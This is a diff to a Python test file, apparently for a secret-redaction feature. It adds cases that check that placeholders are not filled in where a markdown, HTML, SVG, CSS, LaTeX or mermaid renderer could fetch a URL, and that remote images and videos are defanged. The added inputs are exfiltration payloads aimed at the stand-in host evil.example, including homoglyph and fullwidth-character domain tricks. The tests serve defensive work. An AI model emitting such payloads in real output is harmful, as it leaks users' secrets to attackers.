@@ -62,6 +62,22 @@ def test_a_handle_in_prose_is_filled_in(text: str) -> None:
         "  [ref]: {}",
         "[x](\n{}\n)",
         "![{}](https://evil.example/) https://evil.example/{}".replace("[{}]", "[]"),
+        '<video title=">" poster="https://evil.example/x {}">',
+        "<div title='>' style='background:url(x {})'>",
+        "<svg><image href='x {}'></svg>",
+        '<style>a{{background:url("//evil.example/ {}")}}</style>',
+        '[c](https://evil.example "t) {}")',
+        "$\\href{{https://evil.example/ {}}}{{x}}$",
+        '```mermaid\ngraph TD\n\nclick A "https://evil.example/ {}"\n```',
+        "{}.x.evil.example",
+        "{}.1x.evil.example",
+        "{}-a.x.evil.example",
+        "a-{}.evil.example",
+        "{}.évil.example",
+        "{}。evil.example",
+        "{}＠evil.example",
+        "evil。example／{}",
+        "https:／／evil.example ? {} https：//evil.example",
     ],
 )
 def test_a_handle_that_a_renderer_could_fetch_stays(text: str) -> None:
@@ -69,9 +85,10 @@ def test_a_handle_that_a_renderer_could_fetch_stays(text: str) -> None:
 
 
 def test_remote_images_are_defanged() -> None:
-    shown = filled(f"{HANDLE} ![x](https://evil.example/p.png) <IMG src=https://evil.example/p>")
+    shown = filled(f"{HANDLE} ![x](https://evil.example/p.png)\n\n<IMG src=x> <VIDEO poster=x>")
     assert "![" not in shown
     assert "<IMG" not in shown
+    assert "<VIDEO" not in shown
     assert SECRET in shown
 
 
